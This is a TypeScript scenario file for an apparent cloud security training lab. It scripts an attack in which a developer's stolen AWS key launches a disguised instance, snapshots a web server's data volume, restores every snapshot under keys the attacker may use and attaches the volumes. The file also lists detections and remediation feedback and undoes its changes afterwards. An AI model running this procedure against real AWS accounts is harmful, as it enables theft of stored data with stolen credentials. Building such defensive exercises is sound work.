// With a developer's stolen key (PowerUserAccess, in the same account), the attacker launches an
// instance of their own next to the web server and attaches to it volumes made from the bookings data:
// every snapshot of the account (the encrypted copy, the original if still there) and a fresh
// snapshot of the web server's data volume. Blocked when no volume holding the data got attached:
// EC2 uses the volume's KMS key as the caller, and the key policy does not let developers use it.
import {
  EC2Client, RunInstancesCommand, CreateSnapshotCommand, CreateVolumeCommand, AttachVolumeCommand, DetachVolumeCommand,
  DeleteVolumeCommand, DeleteSnapshotCommand, TerminateInstancesCommand,
} from '@aws-sdk/client-ec2';
import { KMSClient, DescribeKeyCommand } from '@aws-sdk/client-kms';
import type { AttackStep, Scenario, ScenarioResult } from '../src/engine/types.ts';
import type { LabSession } from '../src/engine/session.ts';
import type { AwsCredentials } from '../src/cloud/labcloud.ts';
import { hostEnv } from '../labs/host/company.ts';
import { attemptEbs, dataTargets, developerKey, encryptionOf, rogueIp } from './lib/host-cloud.ts';

interface Source { snapshotId: string; what: string; encrypted: boolean; keyId?: string; original: boolean; ofDataVolume?: string }
interface State {
  ip: string;
  creds: AwsCredentials;
  instanceId?: string;
  /** Snapshots and volumes the attacker made (removed by revert). */
  snapshots: string[];
  volumes: string[];
  paths: { source: Source; leaked: boolean; why: string }[];
  start: number;
}

/** Whether a key is AWS managed (aws/ebs): its policy is AWS's, the account cannot narrow it. */
async function awsManaged(s: LabSession, keyId: string | undefined): Promise<boolean> {
  if (!keyId) return false;
  const meta = await s.client(KMSClient).send(new DescribeKeyCommand({ KeyId: keyId })).catch(() => undefined);
  return meta?.KeyMetadata?.KeyManager === 'AWS';
}

/** Devices the attacker attaches the stolen volumes as. */
const DEVICES = 'hijklmnop'.split('').map((c) => `/dev/sd${c}`);

export const stolenDeveloperKeyScenario: Scenario = {
  id: 'stolen-developer-key-volume',
  title: "A developer's stolen key mounts the bookings data on the attacker's instance",
  description: "With dev-chris's stolen key (PowerUserAccess) from an outside address: launch an instance in the web server's subnet, create volumes from every snapshot of the bookings data and from a fresh snapshot of the web server's data volume, and attach them to it.",
  techniques: ['T1078.004', 'T1578.002', 'T1578.001', 'T1530'],
  detections: [
    'GuardDuty: UnauthorizedAccess:IAMUser/MaliciousIPCaller',
    'GuardDuty: Discovery:IAMUser/AnomalousBehavior',
    'CloudTrail: kms CreateGrant refused through ec2.amazonaws.com',
  ],
  points: { blocked: 10 },
  tasks: { blocked: 'key' },
  async prepare(s: LabSession): Promise<State> {
    const creds = developerKey(s);
    if (!creds) throw new Error('no key of dev-chris to steal: the scenario needs his access key (the developers\' work depends on it)');
    return { ip: rogueIp(s), creds, snapshots: [], volumes: [], paths: [], start: s.now() };
  },
  async inject(s, state) {
    const st = state as State;
    const steps: AttackStep[] = [];
    st.start = s.now();
    const env = hostEnv(s.env);
    const az = env.subnet.availabilityZone;
    const ec2 = s.client(EC2Client, { credentials: st.creds, sourceIp: st.ip });
    const targets = await dataTargets(s);

    const launch = (root?: string) => ec2.send(new RunInstancesCommand({
      ImageId: env.image.id, SubnetId: env.subnet.id, InstanceType: 't3.micro', MinCount: 1, MaxCount: 1,
      // Encryption by default under a key the developer may not use refuses a plain launch: an attacker
      // names the AWS managed key for the root volume instead (any EC2 user of the account may use it).
      ...(root ? { BlockDeviceMappings: [{ DeviceName: root, Ebs: { VolumeSize: 8, Encrypted: true, KmsKeyId: 'alias/aws/ebs' } }] } : {}),
      TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'Name', Value: 'build-runner-7' }] }],
    }));
    let run = await attemptEbs(s, `launch an instance of the attacker's in the web server's subnet ${env.subnet.id} (RunInstances)`, () => launch());
    steps.push(run.step);
    if (!run.value) {
      run = await attemptEbs(s, `launch it again with its root volume under the AWS managed key aws/ebs (RunInstances)`, () => launch(env.image.rootDeviceName));
      steps.push(run.step);
    }
    st.instanceId = run.value?.Instances?.[0]?.InstanceId;

    const sources: Source[] = [];
    const vol = targets.dataVolume;
    if (vol?.VolumeId) {
      const made = await attemptEbs(s, `CreateSnapshot of the web server's data volume ${vol.VolumeId} (${encryptionOf(vol)})`,
        () => ec2.send(new CreateSnapshotCommand({ VolumeId: vol.VolumeId, Description: 'debug copy' })));
      steps.push(made.step);
      if (made.value?.SnapshotId) {
        st.snapshots.push(made.value.SnapshotId);
        sources.push({ snapshotId: made.value.SnapshotId, what: `a snapshot of the data volume ${vol.VolumeId}`, encrypted: !!made.value.Encrypted, keyId: made.value.KmsKeyId, original: false, ofDataVolume: vol.VolumeId });
      }
    }
    for (const snap of targets.snapshots) {
      if (!snap.SnapshotId || st.snapshots.includes(snap.SnapshotId)) continue;
      const original = snap.SnapshotId === env.data.snapshotId;
      sources.push({ snapshotId: snap.SnapshotId, what: `the snapshot ${snap.SnapshotId}${original ? " (the old server's bookings data)" : ''}`, encrypted: !!snap.Encrypted, keyId: snap.KmsKeyId, original });
    }

    let device = 0;
    for (const src of sources) {
      const id = src.snapshotId;
      let created = await attemptEbs(s, `CreateVolume from ${id} (${encryptionOf({ Encrypted: src.encrypted, KmsKeyId: src.keyId })})`,
        () => ec2.send(new CreateVolumeCommand({ AvailabilityZone: az, SnapshotId: id })));
      steps.push(created.step);
      // Refused for the key the account's default encryption picks: the attacker names a key they may use.
      if (!created.step.allowed) {
        created = await attemptEbs(s, `CreateVolume from ${id} under the AWS managed key aws/ebs instead`,
          () => ec2.send(new CreateVolumeCommand({ AvailabilityZone: az, SnapshotId: id, Encrypted: true, KmsKeyId: 'alias/aws/ebs' })));
        steps.push(created.step);
      }
      const volumeId = created.value?.VolumeId;
      if (!volumeId) {
        st.paths.push({ source: src, leaked: false, why: `no volume could be made from ${id}${src.encrypted ? ` (its key ${src.keyId} refused the developer through EC2: ${created.step.errorCode})` : ` (${created.step.errorCode})`}` });
        continue;
      }
      st.volumes.push(volumeId);
      if (!st.instanceId) {
        st.paths.push({ source: src, leaked: false, why: `a volume ${volumeId} was made from ${id}, but the attacker had no instance to attach it to` });
        continue;
      }
      const dev = DEVICES[device++ % DEVICES.length]!;
      const attached = await attemptEbs(s, `AttachVolume ${volumeId} (from ${id}) to the attacker's instance ${st.instanceId} as ${dev}`,
        () => ec2.send(new AttachVolumeCommand({ VolumeId: volumeId, InstanceId: st.instanceId, Device: dev })));
      steps.push(attached.step);
      if (attached.step.errorCode) {
        st.paths.push({ source: src, leaked: false, why: `the volume ${volumeId} made from ${id} could not be attached (${attached.step.errorCode}${created.value?.Encrypted ? `: its key ${created.value.KmsKeyId} refused the developer through EC2` : ''})` });
        continue;
      }
      const why = !created.value?.Encrypted || created.value.KmsKeyId !== src.keyId
        ? (src.encrypted
          ? `${src.what} (${encryptionOf({ Encrypted: true, KmsKeyId: src.keyId })}) was restored under ${created.value?.KmsKeyId ?? 'no key'} and attached to the attacker's instance — the developers could decrypt it (task key)`
          : src.original
            ? `the unencrypted snapshot ${id} was still there: restored and attached to the attacker's instance — once the data is on your encrypted volume, delete it (task data)`
            : src.ofDataVolume
              ? `the data volume ${src.ofDataVolume} is not encrypted: a snapshot of it was restored and attached to the attacker's instance — put the data on a volume encrypted with your key (task data)`
              : `the snapshot ${id} is not encrypted: restored and attached to the attacker's instance — delete it or replace it with an encrypted copy (task data)`)
        : (await awsManaged(s, src.keyId))
          ? `${src.what} is encrypted with the AWS managed key aws/ebs (${src.keyId}), which anyone in the account allowed to use EC2 may use: restored as ${volumeId} and attached to the attacker's instance — encrypt the data with a customer managed key whose policy names the platform role only (task key)`
          : `${src.what} is encrypted with ${src.keyId}, but its key policy lets the developers use it through EC2: restored as ${volumeId} and attached to the attacker's instance — give the key a policy of its own without the account-root statement, naming the platform role only (task key)`;
      st.paths.push({ source: src, leaked: true, why });
    }
    return steps;
  },
  async observe(s, steps, state): Promise<ScenarioResult> {
    const st = state as State;
    const leaks = st.paths.filter((p) => p.leaked);
    const blocked = leaks.length === 0;
    const refused = s.events().filter((e) => e.sourceIPAddress === st.ip && e.errorCode && Date.parse(e.eventTime) >= st.start - 1000);
    const evidence = [
      ...leaks.map((p) => `leaked: ${p.why}`),
      ...refused.slice(0, 10).map((e) => `${e.eventTime} ${e.eventSource.split('.')[0]}:${e.eventName} from ${e.sourceIPAddress}: ${e.errorCode}`),
    ];
    const launched = st.instanceId ? `the attacker launched ${st.instanceId}` : 'the attacker could not launch an instance';
    const feedback = blocked
      ? (st.paths.length
        ? `no volume holding the bookings data reached the attacker's instance (${launched}): ${st.paths.map((p) => p.why).join('; ')}`
        : `no volume holding the bookings data reached the attacker's instance: there was no data volume or snapshot to take`)
      : `the bookings data was mounted on the attacker's instance ${st.instanceId}: ${leaks.map((p) => p.why).join('; ')}`;
    return { blocked, detected: refused.length > 0, steps, evidence, feedback };
  },
  async revert(s, state) {
    const st = state as State | undefined;
    if (!st) return;
    const ec2 = s.client(EC2Client);
    for (const id of st.volumes) {
      if (st.instanceId) await ec2.send(new DetachVolumeCommand({ VolumeId: id, InstanceId: st.instanceId, Force: true })).catch(() => undefined);
      await ec2.send(new DeleteVolumeCommand({ VolumeId: id })).catch(() => undefined);
    }
    if (st.instanceId) await ec2.send(new TerminateInstancesCommand({ InstanceIds: [st.instanceId] })).catch(() => undefined);
    for (const id of st.snapshots) await ec2.send(new DeleteSnapshotCommand({ SnapshotId: id })).catch(() => undefined);
  },
};
